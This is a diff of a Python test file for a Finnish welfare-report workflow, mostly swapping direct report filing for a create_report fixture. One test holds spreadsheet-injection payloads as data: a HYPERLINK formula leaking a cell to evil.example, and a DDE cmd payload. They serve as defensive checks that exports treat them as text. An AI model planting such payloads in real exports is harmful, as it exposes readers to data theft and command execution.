@@ -27,7 +27,6 @@ from app.workflow.cases.operations import perform
 from app.workflow.cases.transitions import Action
 from app.workflow.compilations.periods import Period
 from app.workflow.core import permissions
-from app.workflow.reports.filing import ReportInput, file_report
 from app.workflow.welfare import package as welfare_package
 from app.workflow.welfare.package import InvalidSpan, Place, parse_span
 
@@ -95,10 +94,10 @@ def test_term_package_has_every_published_half_side_by_side(app_ctx, published):
     assert [e["findings"] for e in housing["entries"]] == ["Vuokrat nousevat.", "Nuorten asunnottomuus kasvaa."]
 
 
-def test_the_package_is_frozen_with_the_compilation(app_ctx, published, org):
+def test_the_package_is_frozen_with_the_compilation(app_ctx, published, org, create_report):
     before = welfare_package.build_package(Place(None), parse_span("2026-H1", 2025), None, now=LATER)
-    file_report(ReportInput(unit=org["unit"], nature=Nature.NEGATIVE, phenomenon=Phenomenon.SOCIAL_PROBLEMS,
-                            description="Myöhemmin kirjattu raportti."), now=at(2026, 6, 1))
+    create_report(org["unit"], nature=Nature.NEGATIVE, phenomenon=Phenomenon.SOCIAL_PROBLEMS,
+                  description="Myöhemmin kirjattu raportti.", now=at(2026, 6, 1))
     perform(Action.RESOLVE, published["housing"], org["handler"], note="Ratkaistu.")
     db.session.commit()
     assert welfare_package.build_package(Place(None), parse_span("2026-H1", 2025), None, now=LATER) == before
@@ -181,7 +180,7 @@ def test_pdf_and_excel_downloads_are_logged(app, published):
     assert entries[0].details["themes"] == ["housing"] and entries[0].actor.email == "hyte.kuo@t.example"
 
 
-def test_texts_that_a_spreadsheet_would_run_are_text_in_the_excel_file(app, org, create_user):
+def test_texts_that_a_spreadsheet_would_run_are_text_in_the_excel_file(app, org, create_user, create_report):
     """Anonymous reporters' proposals, excerpts, the group's texts and theme names reach the file as typed, as text."""
     link = '=HYPERLINK("http://evil.example/?d="&A1;"Avaa")'
     hostile = {"description": link + " kuvaus", "proposed_actions": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -189,9 +188,9 @@ def test_texts_that_a_spreadsheet_would_run_are_text_in_the_excel_file(app, org,
                "theme": "@Asuminen"}
     housing = db.session.scalar(sa.select(Theme).where(Theme.code == "housing"))
     housing.label_fi = hostile["theme"]
-    report = file_report(ReportInput(unit=org["unit"], nature=Nature.NEGATIVE, phenomenon=Phenomenon.SOCIAL_PROBLEMS,
-                                     themes=[housing], description=hostile["description"],
-                                     proposed_actions=hostile["proposed_actions"]), now=at(2026, 2, 1)).report
+    report = create_report(org["unit"], nature=Nature.NEGATIVE, phenomenon=Phenomenon.SOCIAL_PROBLEMS,
+                           themes=[housing], description=hostile["description"],
+                           proposed_actions=hostile["proposed_actions"], now=at(2026, 2, 1))
     db.session.commit()
     publish(H1_2026, org, hostile["summary"], {"housing": (hostile["findings"], hostile["proposals"])}, [report.number])
     county = coordinator(create_user, "hyte.alue@t.example", None)
